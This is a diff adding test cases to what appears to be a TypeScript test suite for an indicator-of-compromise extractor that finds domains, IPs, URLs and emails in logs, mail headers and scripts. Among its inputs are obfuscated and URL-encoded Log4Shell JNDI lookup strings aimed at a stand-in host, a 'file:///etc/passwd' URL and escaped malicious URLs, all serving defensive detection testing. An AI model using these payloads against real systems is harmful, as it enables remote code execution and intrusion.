@@ -365,6 +365,121 @@ const kinds: Readonly<Record<string, readonly Case[]>> = {
   'what another letter hides is not found at all': [
     ['evil\u200b.example.org \u24d4vil.example.org %65vil.example.org', []],
   ],
+  'ports and zones of addresses': [
+    ['2001:db8::8:51234', ['IPV6 2001:db8::8']],
+    ['fe80::1%eth0:80', ['IPV6 fe80::1']],
+    ['192.0.2.7%eth0:68', ['IPV4 192.0.2.7']],
+    ['2001:db8:1:2:3:4:5:6:443', ['IPV6 2001:db8:1:2:3:4:5:6']],
+    ['WWN 50:01:43:80:12:34:56:78', []],
+  ],
+  'accounts of Windows are no line ends': [
+    ['[10:00] CORP\\nick@evil.example.org logged in', ['EMAIL nick@evil.example.org']],
+    ['"a","CORP\\tom.example.org"', []],
+    [
+      'evil.example.org\\n192.0.2.7\\nbob@evil.example.org',
+      ['DOMAIN evil.example.org', 'IPV4 192.0.2.7', 'EMAIL bob@evil.example.org'],
+    ],
+  ],
+  'terminals and mail': [
+    ['\u001b[31mevil.example.org\u001b[0m \u001b[1m192.0.2.7\u001b[0m', ['DOMAIN evil.example.org', 'IPV4 192.0.2.7']],
+    [
+      'Content-Transfer-Encoding: quoted-printable\n\nhttps://evil.example.org/u?id=AB12 http://evil.example.org/?a=3Db\n--part-1\n\nhttp://evil.example.org/?id=3D2',
+      [
+        'URL https://evil.example.org/u?id=AB12',
+        'URL http://evil.example.org/?a=b',
+        'URL http://evil.example.org/?id=3D2',
+      ],
+    ],
+    [
+      'From: =?UTF-8?Q?Bob_=3Cbob=40evil.example.org=3E?= <x@two.example.org>',
+      ['EMAIL bob@evil.example.org', 'EMAIL x@two.example.org'],
+    ],
+    ['From: =?utf-8?B?PGJvYkBldmlsLmV4YW1wbGUub3JnPg==?=', ['EMAIL bob@evil.example.org']],
+  ],
+  'strings that scripts join': [
+    ["$a='ht'+'tp://evil.ex'+'ample.org/x'", ['URL http://evil.example.org/x']],
+    ['u = "http://evil." & "example.org/x"', ['URL http://evil.example.org/x']],
+  ],
+  'escapes of scripts and logs': [
+    ['var u="http:\\x2F\\x2Fevil.example.org\\x2Fa"', ['URL http://evil.example.org/a']],
+    ['"GET /?x=\\x22http://evil.example.org/x\\x22 HTTP/1.1"', ['URL http://evil.example.org/x']],
+    ['$%7Bjndi:ldap://192.0.2.7:1389/a%7D', ['URL ldap://192.0.2.7:1389/a']],
+    ['?u=%22http://evil.example.org/x%22', ['URL http://evil.example.org/x']],
+    ['GET /r?u=http%3A//evil.example.org/x', ['URL http://evil.example.org/x']],
+    ['/r?to=a%3Dhttp%3A%2F%2Fevil.example.org%2Fx', ['URL http://evil.example.org/x']],
+    [
+      'ldap%3A%2F%2Fevil.example.org%2Fx http%253A%252F%252Fevil.example.org',
+      ['URL ldap://evil.example.org/x', 'URL http://evil.example.org/'],
+    ],
+    [
+      'ip%3D192.0.2.7%26host%3Devil.example.org bob%40evil.example.org',
+      ['IPV4 192.0.2.7', 'DOMAIN evil.example.org', 'EMAIL bob@evil.example.org'],
+    ],
+    ['${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.org/x}', ['DOMAIN evil.example.org']],
+  ],
+  'the whole of a mail address, or nothing': [
+    ['<bounce+abc=bob=example.org@evil.example.org>', []],
+    ["o'brien@evil.example.org", []],
+    ['Message-ID: <20230101.abc$def@evil.example.org>', []],
+    ['to=bob@evil.example.org', ['EMAIL bob@evil.example.org']],
+  ],
+  'the whole of a name, or nothing': [
+    ['<em>evil</em>.example.org', []],
+    ['**evil**.example.org', []],
+    ['evil.exam<wbr>ple.org evil.exam&shy;ple.org', ['DOMAIN evil.example.org']],
+    ['@kibana-highlighted-field@evil@/kibana-highlighted-field@.example.org', ['DOMAIN evil.example.org']],
+    ['hxxps://evil[.].example.org/x', ['URL https://evil.example.org/x']],
+    ['http://evil,example,org/', []],
+    ['http://http://evil.example.org/x', ['URL http://evil.example.org/x']],
+    ['A (4)evil(7)example(3)org(0)', ['DOMAIN evil.example.org']],
+    ['מ-evil.example.org', ['DOMAIN evil.example.org']],
+  ],
+  'what goes on behind a URL': [
+    [
+      'http://evil.example.org/x→http://two.example.org/y->http://evil.example.org/z',
+      ['URL http://evil.example.org/x', 'URL http://two.example.org/y', 'URL http://evil.example.org/z'],
+    ],
+    [
+      'http://evil.example.org/x—which then loads',
+      ['URL http://evil.example.org/x', 'URL http://evil.example.org/x—which'],
+    ],
+    ['http://evil.example.org/long...', ['DOMAIN evil.example.org']],
+    ['at f (https://evil.example.org/static/app.js:10:5123)', ['URL https://evil.example.org/static/app.js']],
+    ['http://evil.example.org/x(192.0.2.7)', ['URL http://evil.example.org/x', 'IPV4 192.0.2.7']],
+    [
+      'url=http://evil.example.org/x^srcPort=81^dhost=two.example.org',
+      ['URL http://evil.example.org/x', 'DOMAIN two.example.org'],
+    ],
+    [
+      'https://evil.example.org/login:bob@two.example.org:pass',
+      ['URL https://evil.example.org/login', 'EMAIL bob@two.example.org'],
+    ],
+    ['http://user:pass@evil.example.org/x', ['URL http://user:pass@evil.example.org/x']],
+    ['file:///etc/passwd', []],
+  ],
+  'names and addresses beside brackets and labels': [
+    ['from mail.evil.example.org(192.0.2.7) by x', ['DOMAIN mail.evil.example.org', 'IPV4 192.0.2.7']],
+    ['IPs of the second release:\n192.0.2.7\n192.0.2.8', ['IPV4 192.0.2.7', 'IPV4 192.0.2.8']],
+    ['kernel: 192.0.2.7 blocked', ['IPV4 192.0.2.7']],
+    ['Host: EVIL-EXAMPLE.SH', ['DOMAIN evil-example.sh']],
+    [
+      'Dropped by setup.zip, contacts:\nevil.example.org\nthen runs install.sh and $_.Name',
+      ['DOMAIN evil.example.org'],
+    ],
+  ],
+  'code, packages, versions and fingerprints': [
+    ['at java.net.X.get(InetAddress.java:1280)', []],
+    ['com.example.app\ncom.example.mobile.pay\ncom.example.bank', []],
+    [
+      'pe.imphash() == "0123456789abcdef0123456789abcdef" ; "ja3":{"hash":"fedcba9876543210fedcba9876543210"} ; JA3S hash 0123456789abcdef0123456789abcdef',
+      [],
+    ],
+    ['<assemblyIdentity name="x" version="6.0.0.0"/>', []],
+    ['Django==3.2.1.2\n"node": ">=1.2.3.4"\n^1.2.3.4', []],
+    ['CEF:0|V|P|1.0.2.3|100|n|10|src=192.0.2.7', ['IPV4 192.0.2.7']],
+    ['threat.technique.id rule.name host.id kubernetes.pod.name $left.id $x.data', []],
+    ['0x0123456789abcdef0123456789abcdef00000000', []],
+  ],
 };
 
 describe.each(Object.entries(kinds))('%s', (_, cases) => {
